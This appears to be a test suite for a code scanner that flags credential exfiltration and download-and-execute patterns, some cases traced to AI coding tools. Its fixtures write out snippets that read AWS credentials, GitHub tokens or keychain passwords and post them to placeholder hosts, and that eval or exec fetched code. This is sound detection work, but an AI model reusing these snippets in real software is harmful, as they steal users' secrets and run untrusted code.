import * as assert from 'node:assert/strict';
import { RULES } from '../../src/core/rules';
import { scanWith } from '../helpers/ruleTester';

const only = (id: string, code: string, own: string[] = []) => scanWith(RULES, code, { ownVendors: own }).filter(f => f.ruleId === id);

describe('correlation: exfiltration', () => {
  // Auggie 0.25.2 (review 72): the password `git credential fill` prints, parsed out of its output and sent as a bearer token.
  it("follows the output of a credential command run with its argument list, through a promise wrapper and the lines of the output", () => {
    const code = 'import{execFile as runFile}from"child_process";function runWithInput(cmd,args,cwd,input){return new Promise(resolve=>{runFile(cmd,args,{cwd},(err,out)=>{err?resolve(void 0):resolve(out.trim())}).stdin?.end(input)})}\nasync function token(cwd){let out=await runWithInput("git",["credential","fill"],cwd,"protocol=https\\nhost=github.com\\n\\n");if(out)for(let line of out.split("\\n")){let[key,...rest]=line.split("=");if(key==="password")return rest.join("=").trim()||void 0}}\nasync function pulls(cwd,o,r){let tok=await token(cwd);if(!tok)return;let u=new URL(`https://api.github.com/repos/${o}/${r}/pulls`);return fetch(u.toString(),{headers:{Authorization:`Bearer ${tok}`}})}\nasync function direct(){const{execFileSync}=require("child_process");const t=execFileSync("git",["credential","fill"]);return fetch("https://collect.example.net/x",{method:"POST",body:t})}';
    assert.deepEqual(only('exfiltration', code).map(f => `${f.line} ${f.severity} ${f.message}`), [
      '3 medium Sends git credential helper (git credential fill) in a network request',
      '4 high Sends git credential helper (git credential fill) in a network request to collect.example.net',
    ]);
  });

  // Cline 2.18.0 (review 91): node-machine-id's exec callback resolving a promise, its output sent as PostHog's distinct_id.
  it("takes a Node-style callback's values after the error for the call's result (exec's stdout, readFile's data)", () => {
    const code = 'var k=require("child_process"),fs=require("fs");var R={linux:"( cat /var/lib/dbus/machine-id /etc/machine-id 2> /dev/null || hostname ) | head -n 1 || :"};function machineId(){return new Promise(function(D,E){k.exec(R[process.platform],{},function(S,v){if(S)return E(S);D(v.toString().trim())})})}async function log(e){const id=await machineId();await fetch("https://data.example.com/capture/",{method:"POST",body:JSON.stringify({distinct_id:id,event:e})})}\nfunction creds(){fs.readFile(require("os").homedir()+"/.aws/credentials","utf8",(err,data)=>{fetch("https://x.example.net/c",{method:"POST",body:data})})}';
    assert.deepEqual(only('exfiltration', code).map(f => `${f.line} ${f.severity} ${f.message}`), [
      '1 medium Sends the Linux machine id (/etc/machine-id) in a network request to data.example.com',
      '2 high Sends AWS credentials (~/.aws/credentials) in a network request to x.example.net',
    ]);
    const errorOnly = 'var k=require("child_process");function f(){k.exec("cat /etc/machine-id",function(err){fetch("https://data.example.com/e",{method:"POST",body:String(err)})})}\nfunction g(cb){lib.run("cat /etc/machine-id",(e,out)=>fetch("https://data.example.com/o",{method:"POST",body:out}))}';
    assert.deepEqual(only('exfiltration', errorOnly), [], "the error is not the output, and another library's callback is not exec's");
  });

  // Claude Code 2.1.200 (review 90): one process runner for a shell wrapper that reads the git identity and for the runner
  // the default branch is read through: only the branch is sent.
  it("follows a read met inside a shared runner to the command of the caller it was reached through, not every caller's", () => {
    const runner = 'const cp=require("child_process");function runner(e,t,n){return new Promise(r=>{const c=cp.spawn(e,Array.isArray(t)?t:[],Array.isArray(t)?n:t);let out="";c.stdout.on("data",d=>out+=d);c.on("close",code=>r({stdout:out,exitCode:code,failed:code!==0}))})}async function shellRun(e,t){return runner(e,{...t,shell:true})}function execNoThrow(e,t,{cwd:s}={}){return new Promise(p=>{runner(e,t,{cwd:s}).then(f=>{if(f.failed)p({stdout:"",code:f.exitCode??1});else p({stdout:f.stdout,code:0})})})}const gitEmail=async()=>{const e=await runner("git",["config","--get","user.email"]);return e.exitCode===0&&e.stdout?e.stdout.trim():void 0};const branch=async(e)=>{const{stdout:t,code:n}=await execNoThrow("git",["symbolic-ref","--short","refs/remotes/origin/HEAD"],{cwd:e});return n===0?t.trim():"main"};';
    const branchSent = runner + '\nasync function session(url){const Q=await branch(process.cwd());return fetch("https://api.example.com/s",{method:"POST",body:JSON.stringify({revision:Q})})}';
    assert.deepEqual(only('exfiltration', branchSent), [], 'the branch, not the e-mail address another caller reads through the runner');
    const emailSent = runner + '\nasync function who(url){const m=await gitEmail();return fetch("https://api.example.com/w",{method:"POST",body:JSON.stringify({email:m})})}';
    assert.deepEqual(only('exfiltration', emailSent).map(f => `${f.line} ${f.severity} ${f.message}`), ['2 medium Sends git user.email in a network request to api.example.com']);
  });

  // Claude Code 2.1.200 (review 90): /web-setup keeps the `gh auth token` output in a class with a private field and posts `token.reveal()`.
  it("follows a method call to the class of the instance that reaches its receiver, and private fields (this.#e)", () => {
    const code = 'const{execSync}=require("child_process");class Secret{#e;constructor(e){this.#e=e}reveal(){return this.#e}toJSON(){return "[REDACTED]"}}async function read(){const n=execSync("gh auth token").toString().trim();if(!n)return{status:"none"};return{status:"ok",token:new Secret(n)}}async function upload(e){return fetch("https://x.example.com/import-token",{method:"POST",body:JSON.stringify({token:e.reveal()})})}async function setup(){const a=await read();if(a.status!=="ok")return;return upload(a.token)}';
    assert.deepEqual(only('exfiltration', code).map(f => `${f.severity} ${f.message}`), ['high Sends GitHub CLI token (gh auth token) in a network request to x.example.com']);
    const other = code.replace('async function upload(e){', 'class Label{reveal(){return "label"}}async function upload(e0){const e=new Label();');
    assert.deepEqual(only('exfiltration', other), [], "another class's method of the same name, on an instance of that class");
  });

  // Claude Code 2.1.112 (this stop's corpus diff): the account name picks the keychain item whose
  // output (the login token) is sent; the name itself is not. Followed six helpers deep, it was
  // reported as "Sends the user account" at every request carrying the login headers.
  it("does not count an identifier that only picks what a read returns (the account given to the keychain's lookup)", () => {
    const code = 'const{execFile}=require("child_process"),os=require("os");function user(){try{return process.env.USER||os.userInfo().username}catch{return"x"}}function readKey(s){return new Promise(r=>{execFile("security",["find-generic-password","-a",user(),"-w","-s",s],{encoding:"utf-8"},(e,out)=>{r({stdout:e?null:out.trim()})})})}async function token(){const{stdout}=await readKey("Claude Code-credentials");return stdout}async function headers(){return{Authorization:`Bearer ${await token()}`}}async function go(){return fetch("https://api.example.com/x",{headers:await headers()})}';
    assert.deepEqual(only('exfiltration', code).filter(f => /user account/.test(f.message)), []);
    const sent = code + 'async function who(){return fetch("https://api.example.com/w",{method:"POST",body:JSON.stringify({u:user()})})}';
    assert.deepEqual(only('exfiltration', sent).filter(f => /user account/.test(f.message)).map(f => `${f.severity} ${f.message}`), ['medium Sends the user account (os.userInfo) in a network request to api.example.com']);
  });

  // command-code 1.53.1 (review 125): the id file is checked, then read, each with its path written out: one machine-id
  // finding for both, whose read is the one the value comes from.
  it('follows a read of an id file named twice in its function (checked, then read) to the request', () => {
    const code = 'const fs=require("fs");function rid(){if(fs.existsSync("/etc/machine-id")){const t=fs.readFileSync("/etc/machine-id","utf8").trim();if(t)return t}return""}async function go(){return fetch("https://api.example.com/fp",{method:"POST",body:JSON.stringify({id:rid()})})}';
    assert.deepEqual(only('exfiltration', code).map(f => `${f.severity} ${f.message}`), ['medium Sends the Linux machine id (/etc/machine-id) in a network request to api.example.com']);
    assert.equal(only('machine-id', code).length, 1);
  });

  // Claude Code 2.1.25 (review 82): `git config --get user.email` run with an argument list through a spawn wrapper, then posted with the gh login.
  it("follows a named source in a program's argument list: execFileSync, a spawn wrapper's stdout chunks, Promise.all's elements", () => {
    const code = [
      'const{execFileSync,execSync,spawn}=require("child_process");async function a(){const e=execFileSync("git",["config","user.email"],{encoding:"utf8"});await fetch("https://api.example.com/a?e="+encodeURIComponent(e))}',
      'function R6(cmd,args){return new Promise(res=>{const p=spawn(cmd,args,{stdio:["ignore","pipe","pipe"]});let out="";p.stdout.on("data",d=>out+=d);p.on("close",code=>res({code,stdout:out}))})}async function email(){const A=await R6("git",["config","--get","user.email"]);return A.code===0?A.stdout.trim():null}async function link(){const[u,e]=await Promise.all([R6("gh",["auth","status"]),email()]);await fetch("https://api.example.com/link",{method:"POST",body:JSON.stringify({git_user_email:e})})}',
    ].join('\n');
    assert.deepEqual(only('exfiltration', code).map(f => `${f.line} ${f.severity} ${f.message}`), [
      '1 medium Sends git user.email in a network request to api.example.com',
      '2 medium Sends git user.email in a network request to api.example.com',
    ]);
    // Options (an environment given to the process) are not what it prints; a name only in a message is no read.
    const options = 'const{execSync}=require("child_process");async function b(){const o=execSync("date",{env:{EMAIL:"user.email"}});await fetch("https://api.example.com/b?o="+o)}async function c(){const r=await Promise.all([fetch("https://api.example.com/v")]);await fetch("https://api.example.com/c",{method:"POST",body:"set git config user.email first"})}';
    assert.deepEqual(only('exfiltration', options), []);
  });

  it('flags a credential file read and a network call in one function, at the call, with the read related', () => {
    const code = 'const fs=require("fs"),p=require("path"),o=require("os");\nasync function r(){const t=fs.readFileSync(p.join(o.homedir(),".aws","credentials"),"utf8");await fetch("https://collector.example.io/u",{method:"POST",body:t})}';
    const [x, ...rest] = only('exfiltration', code);
    assert.equal(rest.length, 0);
    assert.equal(x.severity, 'high');
    assert.equal(x.column, code.split('\n')[1].indexOf('fetch') + 1);
    assert.ok(x.related.some(r => r.message.startsWith('credential-read') && r.column === code.split('\n')[1].indexOf('p.join') + 1));
    assert.match(x.message, /^Sends AWS credentials .* in a network request to collector\.example\.io$/);
  });

  it('does not call a message that quotes a credential path sending the credentials; reading the file through a helper does', () => {
    const quoted = 'async function r(u){await fetch("https://collector.example.io/u",{method:"POST",body:JSON.stringify({error:"missing ~/.aws/credentials"})})}';
    assert.deepEqual(only('exfiltration', quoted), []);
    const named = 'const p=require("path"),o=require("os");async function r(){const f=p.join(o.homedir(),".aws","credentials");await fetch("https://collector.example.io/u?file="+f)}';
    assert.deepEqual(only('exfiltration', named), [], 'the path alone is a name');
    const helper = 'const fs=require("fs");function load(f){return fs.readFileSync(f,"utf8")}\nasync function r(){await fetch("https://collector.example.io/u",{method:"POST",body:load("/home/u/.aws/credentials")})}';
    assert.deepEqual(only('exfiltration', helper).map(f => f.severity), ['high']);
  });

  it('flags the whole environment serialised into a request body in a closure', () => {
    const code = 'function f(u){return async()=>{await fetch(u,{body:JSON.stringify(process.env)})}}';
    assert.equal(only('exfiltration', code)[0].severity, 'high');
  });

  it("follows the host and user names into a message sent on a WebSocket (Amp's thread socket), at the send", () => {
    const code = 'const os=require("os"),W=require("ws");\nfunction open(u){const s=new W(u);s.on("open",()=>{s.send(JSON.stringify({type:"hello",hostname:os.hostname(),user:os.userInfo().username}))});return s}open("wss://collector.example.io/t")';
    const [x, ...rest] = only('exfiltration', code);
    assert.equal(rest.length, 0);
    assert.equal(x.severity, 'medium');
    assert.equal(x.column, code.split('\n')[1].indexOf('s.send') + 1);
    assert.match(x.message, /^Sends the host name, the user account/);
    const unrelated = 'const os=require("os"),W=require("ws");\nconst s=new W("wss://a.io");s.send("ping");function log(r){r.send(os.hostname())}';
    assert.deepEqual(only('exfiltration', unrelated), [], 'the host name goes to a response, not the socket');
  });

  it("follows the host name into a body written to an https.request (desktop-commander's telemetry), not into a file stream's write", () => {
    const code = 'const https=require("https"),os=require("os"),fs=require("fs");\nfunction post(payload){const req=https.request({hostname:"telemetry.example.app",path:"/mp/collect",method:"POST"},res=>{});req.on("error",()=>{});req.write(payload);req.end()}\nfunction cap(){post(JSON.stringify({client_id:1,host:os.hostname()}))}\nfunction log(){const out=fs.createWriteStream("/tmp/x");out.write(os.hostname());out.end(os.hostname())}';
    const found = only('exfiltration', code);
    assert.deepEqual(found.map(f => [f.severity, f.line]), [['medium', 2]]);
    assert.equal(found[0].column, code.split('\n')[1].indexOf('req.write') + 1);
  });

  it("sends a CLI's login token to the service that issued it at medium, and to any other host at high (aicommits' bundled Vercel OIDC refresh)", () => {
    const head = 'const fs=require("fs"),p=require("path"),o=require("os");function tok(){return JSON.parse(fs.readFileSync(p.join(o.homedir(),".local","share","com.vercel.cli","auth.json"),"utf8")).token}\n';
    const issuer = only('exfiltration', `${head}async function r(){return fetch("https://vercel.com/oauth/token",{method:"POST",body:tok()})}`);
    assert.deepEqual(issuer.map(f => [f.severity, f.message]), [['medium', 'Sends Vercel CLI login token (com.vercel.cli/auth.json) in a network request to vercel.com (the service that issued it)']]);
    const elsewhere = only('exfiltration', `${head}async function r(){return fetch("https://collect.example.io/t",{method:"POST",body:tok()})}`);
    assert.deepEqual(elsewhere.map(f => f.severity), ['high']);
    const lookalike = only('exfiltration', `${head}async function r(){return fetch("https://vercel.com.example.io/t",{method:"POST",body:tok()})}`);
    assert.deepEqual(lookalike.map(f => f.severity), ['high'], 'a host that only starts with the issuer is elsewhere');
  });

  it("follows a hashed host name into an analytics SDK client's event (Mastra's PostHog telemetry): medium", () => {
    const code = 'import{createHash}from"crypto";import os from"os";import{PostHog}from"posthog-node";let c=null;function client(){if(process.env.OFF)return null;if(!c)c=new PostHog(K,{host:"https://us.posthog.com"});return c}\nfunction host(){return createHash("sha256").update(os.hostname()).digest("hex")}\nexport function ev(n){const ph=client();if(!ph)return;ph.capture({distinctId:host(),event:n})}';
    const found = only('exfiltration', code);
    assert.deepEqual(found.map(f => [f.severity, f.message]), [['medium', 'Sends the host name in a network request']]);
  });

  it("sends GitHub CLI's token (gh auth token) to GitHub at medium: the service that issued it", () => {
    const code = 'const{execSync}=require("child_process");async function me(){const t=execSync("gh auth token").toString().trim();return fetch("https://api.github.com/user",{headers:{Authorization:`token ${t}`}})}';
    assert.deepEqual(only('exfiltration', code).map(f => [f.severity, f.message]), [['medium', 'Sends GitHub CLI token (gh auth token) in a network request to api.github.com (the service that issued it)']]);
  });

  it("follows a credential written onto a headers object a helper returns (h.Authorization = …; return h) into the request (vibe-tools' GitHub calls)", () => {
    const code = 'import{execSync as run}from"child_process";function tok(){return run("gh auth token",{encoding:"utf8"}).trim()}function headers(){const h={Accept:"application/json"};const t=tok();if(t){h.Authorization=`token ${t}`;return h}return h}\nexport async function c(u){return fetch(`https://api.github.com/${u}`,{headers:headers()})}';
    assert.deepEqual(only('exfiltration', code).map(f => [f.severity, f.line]), [['medium', 2]]);
    const other = code.replace('h.Authorization=`token ${t}`', 'log(t)');
    assert.deepEqual(only('exfiltration', other), [], 'the token not written onto the object sent');
  });

  it('is medium when only identifiers (host name, machine id) meet a network call', () => {
    const code = 'const os=require("os");function t(){const h=os.hostname();navigator.sendBeacon("/t",h)}';
    assert.equal(only('exfiltration', code)[0].severity, 'medium');
  });

  it('keeps the whole environment sent to this machine medium: the receiving process may forward it', () => {
    const code = 'async function t(){await fetch("http://127.0.0.1:8731/env",{method:"POST",body:JSON.stringify(process.env)})}';
    assert.equal(only('exfiltration', code)[0]?.severity, 'medium');
  });

  it("flags another assistant's conversation transcripts sent to a server as high (happy-coder relays Claude Code's)", () => {
    const code = 'const fs=require("fs"),os=require("os"),path=require("path");async function relay(f){const t=fs.readFileSync(path.join(os.homedir(),".claude","projects",f),"utf8");await fetch("https://api.example.com/sync",{method:"POST",body:t})}';
    assert.deepEqual(only('exfiltration', code).map(f => `${f.severity} ${f.message}`), ['high Sends Claude Code conversation transcripts (~/.claude/projects) in a network request to api.example.com']);
  });

  it('is low when the request goes to this machine (a local daemon, happy-coder, review 43)', () => {
    const code = 'const os=require("os");async function t(){const h=os.hostname();await fetch("http://127.0.0.1:8731/register",{method:"POST",body:JSON.stringify({h})})}';
    const [f] = only('exfiltration', code);
    assert.equal(f?.severity, 'low');
    assert.match(f.message, /to 127\.0\.0\.1 \(this machine\)$/);
  });

  it('follows a machine id returned by another function into the request it is sent with (as Continue CLI does)', () => {
    const code = 'const m=require("node-machine-id");function aIo(){return m.machineIdSync()}\nasync function SCt(e){try{let t=aIo(),n=await fetch(`https://api.continue.dev/cn/info?id=${encodeURIComponent(t)}`,{signal:e});return n}catch(t){return null}}';
    const [x] = only('exfiltration', code);
    assert.equal(x.severity, 'medium');
    assert.deepEqual([x.line, x.column], [2, code.split('\n')[1].indexOf('fetch') + 1]);
    assert.ok(x.related.some(r => r.line === 1 && r.message.startsWith('machine-id')));
    assert.match(x.message, /^Sends a machine id .* in a network request to api\.continue\.dev$/);
  });

  it('is medium for a secret that only flows in from a helper towards a computed destination, high towards a foreign host', () => {
    const helper = 'const cp=require("child_process");function k(){return cp.execSync(`security find-generic-password -a $USER -w -s "${n}"`)}\n';
    const own = only('exfiltration', `${helper}async function p(b){return Z1.post(\`\${b}/api/auth/x\`,{},{headers:{k:k()}})}`);
    assert.deepEqual(own.map(f => f.severity), ['medium']);
    const foreign = only('exfiltration', `${helper}async function p(){return fetch("https://collect.example.io/k",{headers:{k:k()}})}`, ['anthropic']);
    assert.deepEqual(foreign.map(f => f.severity), ['high']);
  });

  it('does not call opening a socket to a local interface address sending that address (seen in a real assistant)', () => {
    const code = 'const net=require("net"),os=require("os");function up(p,h){return net.connect({port:p,host:h})}\nfunction all(p){for(const l of Object.values(os.networkInterfaces()).flat())up(p,l.address)}';
    assert.deepEqual(only('exfiltration', code), []);
  });

  it('does not link a source in another function that the call does not use', () => {
    const code = 'const m=require("node-machine-id");function a(){return m.machineIdSync()}\nasync function b(u){return fetch(u)}';
    assert.deepEqual(only('exfiltration', code), []);
  });

  it("does not count the assistant's own key store next to its own API call", () => {
    const code = 'async function l(h){const c=await readFile(`${h}/.claude/.credentials.json`);return fetch("https://api.anthropic.com/v1/x",c)}';
    assert.deepEqual(only('exfiltration', code, ['anthropic']), []);
  });

  it('does not correlate a read and a call in unrelated functions of a big bundle', () => {
    const pad = `var pad="${'x'.repeat(70000)}";`;
    const code = `${pad}function a(){return JSON.stringify(process.env)}\nfunction b(u){return fetch(u)}`;
    assert.deepEqual(only('exfiltration', code), []);
  });
});

describe('correlation: values through instances of a same-module class', () => {
  // Continue CLI 1.5.26 (review 79): the machine id cached by a getter, sent by the class and by a module-level instance.
  it('follows a getter and a method of a module-level instance (exfiltration, download-exec)', () => {
    const code = [
      'const{machineIdSync}=require("node-machine-id"),cp=require("child_process");',
      'class T{getId(){return machineIdSync()}get uniqueId(){return this._u||(this._u=this.getId()),this._u}async capture(e){await fetch("https://app.posthog.com/capture/",{method:"POST",body:JSON.stringify({distinctId:this.uniqueId,e})})}}',
      'const t=new T();async function call(u,p){return fetch(u,{method:"POST",headers:{"x-unique-id":t.uniqueId},body:p})}',
      'class R{constructor(){this.child=cp}run(c){return this.child.exec(c)}}const r=new R();async function apply(u){const s=await(await fetch(u)).text();r.run(s)}',
    ].join('\n');
    assert.deepEqual(only('exfiltration', code).map(f => `${f.line} ${f.severity}`), ['2 medium', '3 medium']);
    assert.deepEqual(only('download-exec', code).map(f => `${f.line} ${f.severity} ${f.message}`), ['4 high Runs a command that comes from a network response (child_process.exec via r.run())']);
  });

  it("takes an instance's own method, not the one it overrides, and a getter's fixed value for what it is", () => {
    const code = [
      'const cp=require("child_process");class A{run(c){return cp.exec(c)}}class B extends A{run(c){console.log(c)}}const b=new B();async function apply(u){const s=await(await fetch(u)).text();b.run(s)}',
      'const{machineIdSync}=require("node-machine-id");class T{get uniqueId(){return "anonymous"}}const t=new T();function call(u){machineIdSync();return fetch(u,{headers:{"x-id":t.uniqueId}})}',
    ].join('\n');
    assert.deepEqual(only('download-exec', code), []);
    assert.deepEqual(only('exfiltration', code), []);
  });
});

describe('correlation: download-exec', () => {
  it('flags network, write and process start in one function as medium, at the process start', () => {
    const code = 'const{execFileSync:x}=require("child_process"),fs=require("fs");async function u(U,p){const r=await fetch(U);fs.writeFileSync(p,Buffer.from(await r.arrayBuffer()));fs.chmodSync(p,493);x(p,["--version"])}';
    const [d] = only('download-exec', code);
    assert.equal(d.severity, 'medium');
    assert.equal(d.column, code.indexOf('x(p') + 1);
    assert.equal(d.related.filter(r => r.message.startsWith('file-write')).length, 2);
  });

  it('flags fetched text evaluated as code as high', () => {
    const code = 'async function g(u){const s=await (await fetch(u)).text();return new Function(s)()}';
    assert.equal(only('download-exec', code)[0].severity, 'high');
  });

  it('follows a response through promise chains: .then callbacks, a chain awaited, .catch', () => {
    const code = [
      'function a(){fetch("https://x.example.com/a.js").then(r=>r.text()).then(code=>eval(code))}',
      'function b(){return fetch("https://x.example.com/b.js").then(function(res){return res.text()}).then(function(src){new Function(src)()})}',
      'async function c(){const s=await fetch("https://x.example.com/c.js").then(r=>r.text()).catch(()=>"");eval(s)}',
      'const cp=require("child_process");function d(){fetch("https://x.example.com/cmd").then(r=>r.json()).then(j=>cp.exec(j.command))}',
    ].join('\n');
    assert.deepEqual(only('download-exec', code).map(f => `${f.line} ${f.severity}`), ['1 high', '2 high', '3 high', '4 high']);
    const handed = 'function a(){return fetch("https://x.example.com/a.js").then(r=>r.text()).then(eval)}';
    assert.deepEqual(only('download-exec', handed).map(f => `${f.severity} ${f.message}`), ['high Runs code that comes from a network response (eval given to .then)'], 'the evaluator itself given to .then');
  });

  // OpenCode's `auth login <url>` (review 80's leftover): Effect generators, a helper around tryPromise.
  it("follows a response out of an Effect generator's yield*: tryPromise given a function or { try }, through a helper, a name or a generator", () => {
    const code = [
      'function a(u){return Effect.gen(function*(){const m=yield* Effect.tryPromise(()=>fetch(u).then(r=>r.json()));return Bun.spawn(m.auth.command)})}',
      'const attempt=(msg,run)=>Effect.tryPromise({try:run,catch:e=>new Error(msg+e)});function b(u){return Effect.gen(function*(){const m=yield* attempt("failed: ",()=>fetch(u).then(r=>r.json()));return Bun.spawn(m.cmd)})}',
      'function c(u){return Effect.gen(function*(){var n;const m=yield*(n=(signal)=>fetch(u,{signal}).then(r=>r.text()),Effect.tryPromise({try:n,catch:String}));return eval(m)})}',
      'function* meta(u){return yield* Effect.tryPromise(()=>fetch(u).then(r=>r.json()))}function d(u){return Effect.gen(function*(){const m=yield* meta(u);return Bun.spawn(m.cmd)})}',
    ].join('\n');
    assert.deepEqual(only('download-exec', code).map(f => `${f.line} ${f.severity}`), ['1 high', '2 high', '3 high', '4 high']);
  });

  it("does not take a generator's plain yield, a fixed effect or a function given for its own values for the response", () => {
    const code = [
      'function a(u){return Effect.gen(function*(){const ok=yield* Effect.tryPromise(()=>fetch(u).then(r=>r.ok));const cmd=yield* Effect.succeed("git status");if(ok)return Bun.spawn(cmd.split(" "))})}',
      'function* b(u){const m=yield fetch(u).then(r=>r.json());return Bun.spawn(m.cmd)}',
      'function c(u){return Effect.gen(function*(){yield* Effect.tryPromise(()=>fetch(u));return Bun.spawn(["git","--version"])})}',
    ].join('\n');
    assert.deepEqual(only('download-exec', code).map(f => `${f.line} ${f.severity} ${f.message}`), []);
  });

  it('does not take what a .then callback does with its own values for the response', () => {
    const code = [
      'const cp=require("child_process");function a(){fetch("https://x.example.com/v").then(r=>r.json()).then(()=>cp.exec(process.env.HOOK))}',
      'function b(){fetch("https://x.example.com/v").then(r=>r.ok).then(ok=>{const code=localStorage.getItem("c");if(ok)eval(code)})}',
      'function c(){fetch("https://x.example.com/v").finally(()=>eval(globalThis.pending))}',
    ].join('\n');
    assert.deepEqual(only('download-exec', code).map(f => `${f.line} ${f.severity} ${f.message}`), []);
  });

  // Claude Code 2.1.25 (review 82): its shared writer x8 writes a download for one caller and an empty file for another, which is opened in $EDITOR.
  it("keeps a shared writer's callers apart: a download written for one caller is not another caller's file", () => {
    const helper = 'const fs=require("fs"),cp=require("child_process"),axios=require("axios");function x8(A,K,q){if(q&&q.flush){let J;try{J=fs.openSync(A,"w");fs.writeSync(J,K)}finally{if(J!==void 0)fs.closeSync(J)}}else fs.writeFileSync(A,K,q)}';
    const editor = helper + 'async function save(url,dest){const r=await axios.get(url,{responseType:"arraybuffer"});x8(dest,Buffer.from(r.data),{flush:!0})}function edit(A){const K=process.env.EDITOR||"vi";cp.execSync(`${K} "${A}"`,{stdio:"inherit"})}async function memory(O){x8(O,"",{flush:!0});edit(O)}module.exports={save,memory}';
    assert.deepEqual(only('download-exec', editor).map(f => `${f.severity} ${f.message}`), []);
    const run = helper + 'async function install(url,dest){const r=await axios.get(url,{responseType:"arraybuffer"});x8(dest,Buffer.from(r.data),{flush:!0});fs.chmodSync(dest,493);cp.execFileSync(dest,["--version"])}function memory(O){x8(O,"",{flush:!0});cp.execSync(`vi "${O}"`)}module.exports={install,memory}';
    assert.deepEqual(only('download-exec', run).map(f => `${f.severity} ${f.message}`), ['medium Writes a download to dest and runs it (child_process.execFileSync)'], "the caller's own path, named as it spells it");
  });

  // Gemini CLI 0.38.0 (review 85): the install command's version put in with .replace().
  it('follows a version put into a command with .replace() (the text put in is in the result)', () => {
    const code = 'const{spawn}=require("child_process");async function latest(){const r=await fetch("https://registry.npmjs.org/x");return (await r.json())["dist-tags"].latest}async function up(){const v=await latest();const updateCommand="npm install -g x@latest";spawn(updateCommand.replace("@latest",`@${v}`),{shell:true})}';
    assert.deepEqual(only('download-exec', code).map(f => `${f.severity} ${f.message}`), ['medium Runs a program with arguments that come from a network response (npm install -g x@*)']);
  });

  it('calls a self-update that installs the version a registry names medium, not high (seen in a real assistant)', () => {
    const code = 'const{execFileSync:x}=require("child_process");async function latest(){const r=await fetch("https://registry.npmjs.org/tool");return (await r.json())["dist-tags"].latest}\nasync function up(){const v=await latest();x("npm",["install","-g",`tool@${v}`])}';
    const found = only('download-exec', code);
    assert.deepEqual(found.map(f => [f.severity, f.message]), [['medium', 'Runs a program with arguments that come from a network response (npm install -g *)']]);
  });

  // opencode 0.5.29 (review 75): zls and clangd written with Bun.file(p).write, unpacked by a Bun Shell line whose folder .cwd() gives.
  it('follows a download written with Bun.file(p).write and unpacked by a Bun Shell line run in a folder given by .cwd()', () => {
    const code = 'const path=require("path");var{$:$2}=globalThis.Bun;var BIN=path.join(process.env.HOME,".local/share/t/bin");async function zls(root){const r=await fetch("https://github.com/zigtools/zls/releases/download/v1/zls.tar.xz");const t=path.join(BIN,"zls.tar.xz");await Bun.file(t).write(r);await $2`tar -xf ${t}`.quiet().cwd(BIN).nothrow();const bin=path.join(BIN,"zls");return Bun.spawn([bin],{cwd:root})}';
    assert.deepEqual(only('download-exec', code).map(f => `${f.severity} ${f.message}`), ['medium Unpacks a downloaded archive into BIN and runs a program from it (~/.local/share/t/bin/zls)']);
  });

  // opencode 0.5.29 (review 75): fzf's archive unpacks one named member into the tool's bin folder; gopls, installed there by go, is not from it.
  it('joins a program to an archive unpacked into its folder only when the archive gives it: a named member, or all of an archive', () => {
    const head = 'const path=require("path");var BIN=path.join(process.env.HOME,".local/share/t/bin");async function fzf(){const r=await fetch("https://github.com/x/fzf/releases/download/v1/fzf.tar.gz");const a=path.join(BIN,"fzf.tar.gz");await Bun.write(a,await r.arrayBuffer());await Bun.spawn(["tar","-xzf",a,"fzf"],{cwd:BIN}).exited}\n';
    const other = head + 'async function gopls(root){await Bun.spawn({cmd:["go","install","golang.org/x/tools/gopls@latest"],env:{GOBIN:BIN}}).exited;return Bun.spawn([path.join(BIN,"gopls")],{cwd:root})}';
    assert.deepEqual(only('download-exec', other), []);
    const member = head + 'function run(){return Bun.spawn([path.join(BIN,"fzf"),"--version"])}';
    assert.deepEqual(only('download-exec', member).map(f => f.severity), ['medium']);
    const whole = head.replace('a,"fzf"]', 'a]') + 'function run(){return Bun.spawn([path.join(BIN,"gopls")])}';
    assert.deepEqual(only('download-exec', whole).map(f => f.severity), ['medium'], 'an archive unpacked whole may hold any program of the folder');
  });

  // opencode 0.5.29 (review 75): its updater as a Bun Shell line, whose values Bun quotes as single words.
  it('calls a Bun Shell line that starts with a fixed program given a registry\'s version medium; a line whose program is the response stays high', () => {
    const head = 'var{$}=globalThis.Bun;async function latest(){const r=await fetch("https://api.github.com/repos/x/t/releases/latest");return (await r.json()).tag_name.slice(1)}\n';
    const update = head + 'async function up(){const v=await latest();await $`npm install -g tool@${v}`}';
    assert.deepEqual(only('download-exec', update).map(f => [f.severity, f.message]), [['medium', 'Runs a program with arguments that come from a network response (npm install -g tool@*)']]);
    const run = head + 'async function up(){const v=await latest();await $`${v} --install`}';
    assert.deepEqual(only('download-exec', run).map(f => f.severity), ['high']);
  });

  // Auggie 0.21.0 (review 67): `execSync(\`npm install -g ${PKG}${n}\`)` with the version the registry names was high.
  it('calls a shell line that starts with a fixed program given a registry\'s version medium; a line a shell runs whole, or after sudo or npx, stays high', () => {
    const head = 'const{execSync}=require("child_process");async function meta(){const r=await fetch("https://registry.npmjs.org/tool");return (await r.json())["dist-tags"].latest}\n';
    const update = head + 'function install(e=null){let n=e?`@${e}`:"",r=`npm install -g tool${n}`;return execSync(r,{stdio:"inherit"}),!0}async function up(){install(await meta())}';
    assert.deepEqual(only('download-exec', update).map(f => [f.severity, f.message]), [['medium', 'Runs a program with arguments that come from a network response (npm install -g tool*)']]);
    for (const line of ['v', '`sudo ${v}`', '`npx ${v}`', '"bash -c " + v']) {
      const run = head + `async function up(){const v=await meta();execSync(${line})}`;
      assert.deepEqual(only('download-exec', run).map(f => f.severity), ['high'], line);
    }
  });

  // Amp (review 65): the updater's helper returns `[program, arguments]` per package manager; a wrapper starts it.
  it('follows a version a registry names into the argument list a helper returns with its program (medium), through a wrapper', () => {
    const code = 'const{spawn}=require("child_process");function run(c,a,o){return spawn(c,a,{stdio:"pipe",...o})}async function latest(c){const r=await fetch("https://registry.npmjs.org/@acme/cli/latest");const b=await r.json();return{hasUpdate:b.version!==c,latestVersion:b.version}}\nfunction installCommand(pm,v){const spec=v?`@acme/cli@${v}`:"@acme/cli";switch(pm){case "npm":return["npm",["install","-g",spec]];default:return["yarn",["global","add",spec]]}}async function update(v,pm){const[cmd,args]=installCommand(pm||"npm",v);return run(cmd,args,{shell:process.platform==="win32"})}async function auto(c){const i=await latest(c);if(i.hasUpdate)await update(i.latestVersion,"npm")}module.exports=auto';
    assert.deepEqual(only('download-exec', code).map(f => [f.severity, f.message]), [['medium', 'Runs a program with arguments that come from a network response (npm or yarn)']]);
  });

  it("leaves a version from a release API that only names an archive in the tool's own folder (tar xzf join(dir, `fd-${v}.tar.gz`), Letta Code's fd download)", () => {
